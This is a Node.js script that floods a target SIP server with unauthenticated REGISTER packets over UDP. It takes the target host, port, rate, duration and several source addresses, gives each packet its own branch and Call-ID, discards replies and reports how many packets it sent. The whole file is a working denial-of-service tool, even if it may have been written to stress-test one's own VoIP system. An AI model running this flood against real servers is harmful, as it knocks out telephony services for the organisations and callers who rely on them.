#!/usr/bin/env node
// A REGISTER flood: `node udp-flood.mjs TARGET_HOST TARGET_PORT RATE SECONDS SOURCE...`
// Sends RATE unauthenticated REGISTERs a second for SECONDS, spread evenly over one UDP socket
// per SOURCE address, each packet with its own branch and Call-ID, paced on the clock (not as
// fast as the loop spins). Prints one JSON line at the end: { sent, seconds, rate }.
import dgram from 'node:dgram';

const [host, portText, rateText, secondsText, ...sources] = process.argv.slice(2);
const port = Number(portText);
const rate = Number(rateText);
const seconds = Number(secondsText);
if (!host || !(port > 0) || !(rate > 0) || !(seconds > 0) || sources.length === 0) {
  console.error('usage: udp-flood.mjs TARGET_HOST TARGET_PORT RATE SECONDS SOURCE...');
  process.exit(2);
}

const sockets = await Promise.all(sources.map((address) => new Promise((resolve, reject) => {
  const socket = dgram.createSocket('udp4');
  socket.once('error', reject);
  socket.bind(0, address, () => resolve(socket));
  // Answers are read and thrown away, as a flooding tool does.
  socket.on('message', () => undefined);
})));

/** 64 packets a source, told apart by branch and Call-ID: enough variety, no per-packet building. */
const packets = sockets.map((socket) => {
  const { address, port: local } = socket.address();
  return Array.from({ length: 64 }, (_, i) => Buffer.from([
    `REGISTER sip:${host}:${port} SIP/2.0`,
    `Via: SIP/2.0/UDP ${address}:${local};branch=z9hG4bK-flood-${local}-${i};rport`,
    'Max-Forwards: 70',
    `From: <sip:${1000 + (i % 9)}@${host}>;tag=flood${i}`,
    `To: <sip:${1000 + (i % 9)}@${host}>`,
    `Call-ID: flood-${local}-${i}@${address}`,
    `CSeq: ${i + 1} REGISTER`,
    `Contact: <sip:flood@${address}:${local}>`,
    'Expires: 3600',
    'Content-Length: 0', '', '',
  ].join('\r\n')));
});

const start = process.hrtime.bigint();
const end = start + BigInt(Math.round(seconds * 1e9));
let sent = 0;
let next = 0;
await new Promise((resolve) => {
  const tick = () => {
    const now = process.hrtime.bigint();
    if (now >= end) return resolve();
    const due = Math.floor((Number(now - start) / 1e9) * rate);
    // Catch up to the schedule in bursts of at most 2,000 packets, then let I/O run.
    for (let n = 0; n < 2000 && sent < due; n++, sent++) {
      const s = next++ % sockets.length;
      sockets[s].send(packets[s][sent % 64], port, host);
    }
    setImmediate(tick);
  };
  tick();
});
const elapsed = Number(process.hrtime.bigint() - start) / 1e9;
for (const socket of sockets) socket.close();
console.log(JSON.stringify({ sent, seconds: elapsed, rate: Math.round(sent / elapsed) }));
